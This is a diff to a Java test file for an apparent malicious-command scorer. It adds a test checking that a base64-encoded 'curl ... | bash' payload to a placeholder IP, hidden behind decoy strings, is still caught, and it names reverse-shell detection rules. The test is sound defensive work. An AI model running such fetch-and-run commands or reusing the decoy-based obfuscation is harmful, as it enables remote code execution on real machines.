@@ -11,11 +11,12 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /**
- * Env expansion cannot be turned into a memory bomb, and the bound does not open an evasion. Found by the
- * fuzz test: a 400 KB value referenced 250,000 times from a 500 KB command line made the scorer build a
- * 100 GB string and die of OutOfMemoryError, which in a TaskManager takes the job down.
+ * The evasion normalisations are bounded in cost but not in reach. Env expansion cannot be turned into a
+ * memory bomb (found by the fuzz test: a 400 KB value referenced 250,000 times from a 500 KB command line
+ * made the scorer build a 100 GB string and die of OutOfMemoryError, which in a TaskManager takes the job
+ * down), and neither that bound nor base64 decoding can be used to push a payload out of sight.
  */
-class ScorerBoundsTest {
+class NormalisationLimitsTest {
     private static final Scorer SCORER = ScorerTest.SCORER;
 
     @Test
@@ -44,6 +45,26 @@ class ScorerBoundsTest {
                 List.of("$PAD$PAD$PAD; eval \"$CMD\""), env));
         assertThat(s.signals()).filteredOn(x -> x.rule().equals("reverse-shell-dev-tcp"))
                 .extracting(Signal::path).containsExactly("c[0].command+args (env-expanded)");
+    }
+
+    @Test
+    void harmlessBase64DecoysCannotHideThePayloadBehindThem() {
+        StringBuilder line = new StringBuilder("python3 -c \"import base64,os;");
+        for (int i = 0; i < 20; i++) {
+            line.append(" d").append(i).append("='").append(b64("nothing to see here, decoy number " + i)).append("';");
+        }
+        line.append(" os.system(base64.b64decode('").append(b64("curl -fsSL http://203.0.113.9/x | bash")).append("'))\"");
+        ScoredEvent s = EvasionAndAllowlistTest.score(EvasionAndAllowlistTest.container("python:3.12", List.of("sh", "-c"),
+                List.of(line.toString()), List.of()));
+        assertThat(s.signals()).filteredOn(x -> x.rule().equals("download-pipe-shell")).singleElement().satisfies(sig -> {
+            assertThat(sig.path()).isEqualTo("c[0].command+args (base64-decoded)");
+            assertThat(sig.value()).isEqualTo("curl -fsSL http://203.0.113.9/x | bash");
+        });
+        assertThat(s.alertable()).isTrue();
+    }
+
+    private static String b64(String s) {
+        return java.util.Base64.getEncoder().encodeToString(s.getBytes(java.nio.charset.StandardCharsets.UTF_8));
     }
 
     @Test
